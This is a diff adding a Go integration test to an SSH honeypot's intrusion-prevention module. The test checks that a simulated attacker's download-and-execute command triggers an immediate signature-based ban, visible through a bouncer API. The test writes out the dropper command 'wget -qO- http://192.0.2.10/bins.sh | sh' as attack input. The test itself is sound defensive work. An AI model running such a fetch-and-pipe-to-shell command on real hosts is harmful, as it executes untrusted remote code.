@@ -3,7 +3,11 @@
 package ips
 
 import (
+	"context"
+	"encoding/json"
 	"fmt"
+	"net"
+	"net/http"
 	"strings"
 	"testing"
 	"time"
@@ -139,5 +143,67 @@ ips:
 	out, err := l.Lure(t, "decisions", "ls", "--data-dir", l.DataDir)
 	if err != nil || !strings.Contains(out, guesser.Addr4) || strings.Contains(out, trusted.Addr4) || strings.Contains(out, user.Addr4) {
 		t.Errorf("decisions in force:\n%s (%v); want the guesser's only", out, err)
+	}
+}
+
+// TestDropperSignatureBansAtOnce: a logged-in attacker pipes a download into a shell (the
+// dropper every bot runs); the signature detector fires on that one command line and the ban
+// is in the bouncer API at once, with the command's event as evidence.
+func TestDropperSignatureBansAtOnce(t *testing.T) {
+	lab := NewLab(t)
+	sensor, attacker, bouncer := lab.Host("sensor"), lab.Host("attacker"), lab.Host("bouncer")
+	const password = "k7#Qv9-weak-on-purpose"
+	key := randomHex(t, 24)
+	l := StartLure(t, sensor, fmt.Sprintf(`ssh:
+  listen: ["%s:2222"]
+  credentials: [{user: root, password: %q}]
+ips:
+  lapi:
+    listen: "%s:8081"
+    bouncer_keys: ["%s"]
+`, sensor.Addr4, password, sensor.Addr4, key), 2222)
+	addr := HostPort(sensor.Addr4, 2222)
+	c, err := attacker.Dial("tcp", addr, 5*time.Second)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cc, ch, reqs, err := gossh.NewClientConn(c, addr, &gossh.ClientConfig{User: "root", Auth: []gossh.AuthMethod{gossh.Password(password)},
+		HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 5 * time.Second})
+	if err != nil {
+		t.Fatal(err)
+	}
+	client := gossh.NewClient(cc, ch, reqs)
+	defer client.Close()
+	s, err := client.NewSession()
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.CombinedOutput("cd /tmp; wget -qO- http://192.0.2.10/bins.sh | sh")
+	dec := l.WaitEvent(t, "lure.ips.decision", func(e map[string]any) bool {
+		return e["src_ip"] == attacker.Addr4 && e["outcome"] == "decided"
+	}, 10*time.Second)
+	if sc, _ := dec["scenario"].(string); !strings.HasPrefix(sc, "lure/sig-") {
+		t.Errorf("the decision's scenario is %q, want a signature's", sc)
+	}
+	cmd := l.WaitEvent(t, "cowrie.command.input", func(e map[string]any) bool { return e["src_ip"] == attacker.Addr4 }, time.Second)
+	if ev, _ := dec["evidence"].([]any); len(ev) == 0 || ev[len(ev)-1] != cmd["uuid"] {
+		t.Errorf("the decision's evidence %v does not cite the command's event %v", dec["evidence"], cmd["uuid"])
+	}
+	t.Logf("command line to decision: %.3f ms", dec["latency_ms"])
+
+	// A bouncer elsewhere sees the ban on its next pull.
+	hc := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DialContext: func(ctx context.Context, network, a string) (net.Conn, error) {
+		return bouncer.Dial(network, a, 5*time.Second)
+	}}}
+	req, _ := http.NewRequest("GET", "http://"+HostPort(sensor.Addr4, 8081)+"/v1/decisions?ip="+attacker.Addr4, nil)
+	req.Header.Set("X-Api-Key", key)
+	resp, err := hc.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	var ds []map[string]any
+	if err := json.NewDecoder(resp.Body).Decode(&ds); err != nil || len(ds) != 1 || ds[0]["value"] != attacker.Addr4 || ds[0]["type"] != "ban" {
+		t.Errorf("GET /v1/decisions?ip=%s = %v (%v); want the ban", attacker.Addr4, ds, err)
 	}
 }
